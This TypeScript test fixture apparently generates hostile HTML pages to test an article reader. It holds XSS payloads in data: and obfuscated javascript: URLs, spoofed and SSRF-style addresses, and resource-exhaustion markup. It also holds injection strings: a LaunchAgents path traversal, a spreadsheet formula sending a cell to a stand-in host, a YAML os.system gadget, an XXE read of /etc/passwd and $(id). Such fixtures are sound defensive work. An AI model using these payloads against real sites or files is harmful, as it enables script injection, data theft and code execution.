/** What may stand in any attribute, and amounts of it, each on elements that a story is made of. */
import { around, type HostilePage, inStory, page, quoted } from '../story.ts';

const names = [
  ...['src', 'href', 'srcset', 'data', 'action', 'formaction', 'poster', 'background', 'cite', 'longdesc'],
  ...['usemap', 'manifest', 'archive', 'classid', 'codebase', 'profile', 'icon', 'dynsrc', 'lowsrc', 'ping'],
  ...[
    'data-src',
    'data-srcset',
    'data-bg',
    'data-original',
    'data-url',
    'imagesrcset',
    'xlink:href',
    'style',
  ],
];
const elements = ['p', 'img', 'a', 'figure', 'blockquote', 'video', 'td', 'li', 'source', 'h2', 'time', 'q'];

/** Every attribute with that address, on every element. */
const everywhere = (address: string): string =>
  elements
    .map((name) => `<${name} ${names.map((said) => `${said}="${quoted(address)}"`).join(' ')}></${name}>`)
    .join('\n');

const addresses: Readonly<Record<string, (run: string) => string>> = {
  'data-html': (run) => `data:text/html,<script>${run}</script>`,
  'data-xml': (run) =>
    `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  'data-script': (run) => `data:text/javascript,${run}`,
  blob: () => 'blob:http://127.0.0.1/5b3f4b0e-0000-4000-8000-000000000000',
  'javascript-tabs': (run) => `\u0001java\nscript\t:${run}//http://quay.example/a.png`,
};

export const attributes: readonly HostilePage[] = [
  ...Object.entries(addresses).map(([name, address]) => ({
    ...inStory(`attribute-${name}`, `${name} in every attribute`, ({ run }) => everywhere(address(run))),
    moves: true as const,
  })),
  inStory(
    'attribute-links',
    'addresses that are read in more than one way',
    () =>
      `<p>${[
        ...[
          'https://www.bank.example@quay.example/',
          'https://quay.example\\@bank.example/',
          'https:quay.example',
        ],
        ...[
          'http://[::ffff:7f00:1]/',
          'http://0x7f.1/',
          'http://2130706433/',
          'https://xn--a/',
          '////quay.example',
        ],
        ...[
          'mailto:a@quay.example?cc=b@quay.example&body=%0d%0aBcc:x',
          'tel:*%2306%23',
          'https://quay.example:99999/',
        ],
        ...[
          'http://quay.example/%00%0a%2e%2e/',
          'https://quay.example/#:~:text=bell',
          'ws://quay.example',
          'ftp://x/',
        ],
      ]
        .map((address) => `<a href="${address}">The tides</a>`)
        .join(', ')} and the rest are in the almanac.</p>`,
  ),
  inStory(
    'attribute-sizes',
    'sizes that nest, and sources without number',
    ({ own }) =>
      `<picture>${`<source media="(min-width: 1px)" srcset="${own}/picture.png 1x" sizes="1px">`.repeat(5_000)}<img src="${own}/picture.png" sizes="${'calc('.repeat(2_000)}1px${')'.repeat(2_000)}" srcset="${own}/picture.png 600w, ${own}/picture.png 99999999999999999999w, ${own}/picture.png -1w, ${own}/picture.png NaNx" alt="Bell" width="600" height="400"></picture>`,
  ),
  inStory(
    'attribute-style-fetches',
    'styles that fetch, in the story alone',
    ({ address }) =>
      `<p data-style="background:url(${address})" style="--x: url(${address}?x); content-visibility: auto">The almanac of the harbour was right.</p><template><p style="background:url(${address}?t)">Rope</p></template>`,
  ),
  around('attribute-policy', 'policies in its own head', () => ({
    head: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'none'; img-src 'none'; font-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'; base-uri 'none'; form-action 'none'"><meta name="referrer" content="unsafe-url"><meta http-equiv="refresh" content="9999;url=data:text/html,x"><meta name="color-scheme" content="only dark"><meta name="viewport" content="width=1,user-scalable=no">`,
  })),
  inStory(
    'attribute-shadow-deep',
    'roots in roots in roots',
    () =>
      `${'<div><template shadowrootmode="open"><slot></slot>'.repeat(120)}<p>Under the quay there is another quay.</p>${'</template></div>'.repeat(120)}`,
  ),
];

/** Texts that leave the place in a file where a field stands: front matter, tables, XML, names in zips. */
const fields: Readonly<Record<string, string>> = {
  'path-site': '../../../Library/LaunchAgents/bell\u0000.plist',
  'table-author': '=IMPORTXML(CONCAT("http://quay.example/",A1),"//a")',
  'tag-turned': '\u202e\u2066bell\u2069, rope\u0007\n- evil: true',
  'yaml-anchor': '&a !!python/object:os.system ["bell"] *a',
  'xml-site': '"/><opf:item href="evil.xhtml" media-type="application/xhtml+xml"/><x y="',
  'breaks-author': 'Ilse\r\n---\r\ntitle: Other\r\n---\r\n# Bell',
  'comment-site': '--><!ENTITY x SYSTEM "file:///etc/passwd">]]><![CDATA[ %PATH% $(id)',
};

export const written: readonly HostilePage[] = [
  ...Object.entries(fields).map(([name, text]) =>
    around(`written-${name}`, `a text that leaves its field: ${name}`, () => ({
      byline: quoted(text),
      head: `${['og:site_name', 'author', 'keywords', 'article:tag', 'article:section', 'news_keywords', 'og:locale', 'application-name'].map((said) => `<meta property="${said}" name="${said}" content="${quoted(text)}">`).join('')}<script type="application/ld+json">${JSON.stringify({ '@type': 'NewsArticle', keywords: [text, text], author: { name: text }, publisher: { name: text }, articleSection: text, inLanguage: text }).replaceAll('<', '\\u003c')}</script>`,
    })),
  ),
  around('written-language', 'a language that closes its attribute', ({ run }) => ({
    htmlAttributes: `lang="en&quot;&gt;&lt;script&gt;${quoted(run)}&lt;/script&gt;" xml:lang="x' onload='${quoted(run)}"`,
  })),
  {
    id: 'written-ids',
    tries: 'ids that close their attribute in a file',
    story: 'whole',
    html: ({ run }) =>
      page({
        inside: `<p>The rhyme<sup><a href="#n&quot;&gt;&lt;script&gt;" id="r'&gt;">1</a></sup> has many readings, they say.</p>`,
        after: `<ol><li id="n&quot;&gt;&lt;script&gt;">Reading of it with <code>${quoted(run)}</code> in it.</li></ol>`,
      }),
  },
];
